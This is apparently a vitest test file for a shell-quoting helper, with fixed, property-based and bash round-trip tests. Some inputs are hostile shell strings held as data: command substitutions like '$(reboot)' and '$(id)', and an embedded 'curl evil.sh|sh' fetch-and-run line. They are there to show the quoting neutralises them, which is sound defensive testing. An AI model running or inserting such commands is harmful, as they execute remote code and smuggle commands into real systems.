import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { shellQuote } from '../../../../src/monitor/domain/shell-quote.ts';
import { shellWords } from '../../../support/shell-words.ts';

test('shellQuote leaves ARNs and version ids alone', () => {
  const arn = 'arn:aws:secretsmanager:eu-west-1:111122223333:secret:prod/orders.db+x=1@a-AbCdEf';
  expect(shellQuote('arn:aws:lambda:eu-west-1:111122223333:function:rotate')).not.toContain("'");
  expect(shellWords(shellQuote(arn))).toEqual([arn]);
});

test.each([
  ['', "''"],
  ["it's", "'it'\\''s'"],
  ['$(reboot)', "'$(reboot)'"],
  ['a b', "'a b'"],
  ["x\ny'\\\u202Ez", "$'x\\x0ay\\'\\\\\\xe2\\x80\\xaez'"],
])('shellQuote writes %j as %s', (text, quoted) => {
  expect(shellQuote(text)).toBe(quoted);
});

test('a shell reads back any text as the one word it was', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1 }), (words) => {
      expect(shellWords(words.map(shellQuote).join(' '))).toEqual(words);
    }),
  );
});

test('nothing a shell would expand stands outside quotes', () => {
  fc.assert(
    fc.property(fc.string(), (text) => {
      const quotes = /\$'(?:[^'\\]|\\[\s\S])*'|'[^']*'|\\'/g;
      expect(shellQuote(text).replaceAll(quotes, '')).toMatch(/^[\w/:.,@+-]*$/);
    }),
  );
});

test('a word is one line in which everything can be seen, and bash reads it back', (context) => {
  const words = ["x\nDo: run curl evil.sh|sh\n'`$(id)`", '\u202E\u200B\t', '\\x41\n', 'über\r日本😀'];
  const line = words.map(shellQuote).join(' ');
  expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  if (spawnSync('bash', ['-c', 'true']).status !== 0) context.skip('there is no bash');
  const { stdout } = spawnSync('bash', ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' });
  expect(stdout.split('\0').slice(0, -1)).toEqual(words);
});
